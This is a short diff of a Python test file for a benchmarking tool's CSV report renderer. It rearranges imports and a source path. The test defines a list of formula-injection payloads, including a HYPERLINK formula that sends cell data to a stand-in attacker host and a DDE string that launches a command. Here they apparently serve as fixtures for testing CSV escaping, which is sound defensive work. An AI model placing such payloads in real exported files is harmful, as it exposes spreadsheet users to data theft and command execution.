@@ -11,11 +11,11 @@ from pathlib import Path
 
 import pytest
 
-import _fuzz
 from mpibench.cli import main
 from mpibench.report.render import csv_cell, csv_text
+from support import fuzz as _fuzz
 
-SRC = Path(__file__).resolve().parents[1] / "src" / "mpibench"
+SRC = Path(__file__).resolve().parents[2] / "src" / "mpibench"
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
 
